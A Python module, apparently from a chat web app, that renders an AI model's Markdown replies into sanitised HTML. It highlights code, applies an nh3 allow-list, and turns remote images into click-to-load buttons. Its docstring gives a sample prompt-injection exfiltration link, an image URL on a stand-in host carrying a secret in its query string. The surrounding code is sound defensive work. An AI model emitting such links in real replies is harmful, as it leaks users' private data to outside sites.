"""Model output to safe HTML: Markdown rendered, code highlighted, then sanitised with an allow-list.

Model output is untrusted: a reply can contain anything a prompt injection
put there. Raw HTML in it is shown as text, the result passes through nh3
with a short allow-list, and no image from elsewhere loads until the reader
asks: `![](https://elsewhere.example/p.png?q=SECRET)` becomes a button, so
merely reading a reply never sends a request to another site.
"""

from functools import lru_cache
from html import escape
from urllib.parse import urlsplit

import nh3
from django.utils.html import escape as escape_html
from django.utils.translation import gettext
from markdown_it import MarkdownIt
from pygments import highlight
from pygments.formatters import HtmlFormatter
from pygments.lexers import get_lexer_by_name
from pygments.util import ClassNotFound

_formatter = HtmlFormatter(nowrap=True)


@lru_cache(maxsize=256)
def _lexer(name: str):
    """The lexer for a code block's language, or None. Cached: looking one up took about 15% of rendering a
    short reply with a code block (measured side by side); bounded, as the names come from model output."""
    try:
        return get_lexer_by_name(name)
    except ClassNotFound:
        return None


def _highlight(code: str, lang: str, attrs: str) -> str:
    name = lang.strip().split()[0].lower() if lang.strip() else ""
    css_name = "".join(ch for ch in name if ch.isalnum() or ch in "+-_#.")
    lexer = _lexer(name) if name else None
    body = highlight(code, lexer, _formatter) if lexer else escape(code)
    language = f' class="language-{css_name}"' if css_name else ""
    label = f'<span class="code-lang">{escape(css_name)}</span>' if css_name else ""
    return f'<pre class="highlight">{label}<code{language}>{body}</code></pre>\n'


def _render_image(renderer, tokens, idx, options, env) -> str:
    token = tokens[idx]
    src = token.attrGet("src") or ""
    alt = "".join(child.content for child in token.children or [])
    parts = urlsplit(src)
    if parts.scheme not in {"http", "https"} or not parts.netloc:
        return escape(alt)
    # Worded in the language active where it is rendered (the writer's, for a reply): render.js words it for each reader live.
    label = gettext("Show image from %s") % parts.hostname + (f": {alt}" if alt else "")
    return (
        f'<button type="button" class="remote-image" data-src="{escape(src)}" title="{escape(src)}">'
        f"{escape(label)}</button>"
    )


# Configured like the browser's markdown-it for streaming replies (static/conversations/js/render.js): keep in step.
_markdown = MarkdownIt("commonmark", {"html": False, "highlight": _highlight}).enable(["table", "strikethrough"])
_markdown.add_render_rule("image", _render_image)

# The browser renders a streaming reply with the same allow-list (static/conversations/js/render.js, DOMPurify):
# the two must stay in step, so a change here is a change there.
_cleaner = nh3.Cleaner(
    tags={
        "p", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6", "strong", "em", "del", "s", "code", "pre",
        "blockquote", "ul", "ol", "li", "a", "table", "thead", "tbody", "tr", "th", "td", "span", "button",
        "sup", "sub",
    },
    clean_content_tags={"script", "style"},
    attributes={
        "a": {"href", "title"},
        "ol": {"start"},
        "code": {"class"},
        "pre": {"class"},
        "span": {"class"},
        "th": {"class"},
        "td": {"class"},
        "button": {"type", "class", "data-src", "title"},
    },
    url_schemes={"http", "https", "mailto"},
    link_rel="noopener noreferrer nofollow",
)

_ALIGN = {"text-align:left": "align-left", "text-align:center": "align-center", "text-align:right": "align-right"}


def render_markdown(text: str) -> str:
    """Sanitised HTML for a reply's Markdown."""
    tokens = _markdown.parse(text)
    for token in tokens:
        # Alignment arrives as inline styles, which the page's CSP forbids; classes do the same job.
        if token.type in ("th_open", "td_open") and token.attrGet("style"):
            token.attrs = {"class": _ALIGN.get(str(token.attrGet("style")), "")}
    return _cleaner.clean(_markdown.renderer.render(tokens, _markdown.options, {}))


def render_plain(text: str) -> str:
    """A person's own message: shown as written, escaped (safe to put in a template), line breaks kept by CSS."""
    return escape_html(text)
